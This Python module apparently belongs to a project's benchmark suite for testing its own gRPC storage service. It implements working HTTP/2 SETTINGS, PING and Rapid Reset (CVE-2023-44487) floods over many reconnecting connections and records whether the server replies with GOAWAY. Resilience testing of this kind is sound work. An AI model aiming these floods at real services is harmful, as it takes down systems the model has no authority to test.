"""Attacks on the gRPC ports by frames that cost the sender little: SETTINGS, PING, and streams that are
opened and reset at once (RFC 9113 section 10.5, CVE-2023-44487).
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Callable, Iterator
from typing import Final

from benchmarks.attacks import ADDRESS, SILENCE, Attack, Run

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS, _PING, _HEADERS, _RESET, _GOAWAY = 4, 6, 1, 3, 7
_END_HEADERS: Final = 4
_CANCEL: Final = 8
_BURST: Final = 500
_SECONDS_BETWEEN_BURSTS: Final = 0.01


def frame(kind: int, stream: int, body: bytes = b"", flags: int = 0) -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body


def settings_flood() -> Iterator[bytes]:
    """SETTINGS, each of which must be acknowledged."""
    while True:
        yield frame(_SETTINGS, 0) * _BURST


def ping_flood() -> Iterator[bytes]:
    """PINGs, each of which must be answered."""
    while True:
        yield frame(_PING, 0, b"\0" * 8) * _BURST


def rapid_reset() -> Iterator[bytes]:
    """Requests that are reset in the same write."""
    stream = 1
    while True:
        pairs = []
        for _ in range(_BURST):
            pairs.append(frame(_HEADERS, stream, _request(), _END_HEADERS))
            pairs.append(frame(_RESET, stream, struct.pack(">I", _CANCEL)))
            stream += 2
        yield b"".join(pairs)


def _request() -> bytes:
    """A call of StorageService/Upload as HPACK literals without indexing (RFC 7541 section 6.2.2)."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/strongroom.storage.v1.StorageService/Upload"),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(
        b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in fields
    )


def flooding(frames: Callable[[], Iterator[bytes]], connections: int) -> Run:
    """An attack with ``connections`` that send ``frames``, and reconnect whenever they are closed."""

    async def one(attack: Attack) -> None:
        host, _, port = attack.target.storage.rpartition(":")
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(ADDRESS, 0))
                await _flood(attack, reader, writer, frames())
            except (OSError, EOFError):
                attack.answers["closed"] += 1
            await asyncio.sleep(_SECONDS_BETWEEN_BURSTS)

    async def run(attack: Attack) -> None:
        await asyncio.gather(*(one(attack) for _ in range(connections)))

    return run


async def _flood(
    attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, frames: Iterator[bytes]
) -> None:
    writer.write(PREFACE + frame(_SETTINGS, 0))
    told = asyncio.ensure_future(_ending(reader))
    try:
        for burst in frames:
            if told.done():
                break
            writer.write(burst)
            await writer.drain()
            await asyncio.sleep(_SECONDS_BETWEEN_BURSTS)
        attack.answers[told.result()] += 1
    finally:
        told.cancel()
        writer.close()


async def _ending(reader: asyncio.StreamReader) -> str:
    """Wait for the end of the connection. Returns ``GOAWAY``, or SILENCE if it ended without that frame."""
    while True:
        try:
            top = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(top[:3], "big"))
        except (OSError, EOFError):
            return SILENCE
        if top[3] == _GOAWAY:
            return "GOAWAY"
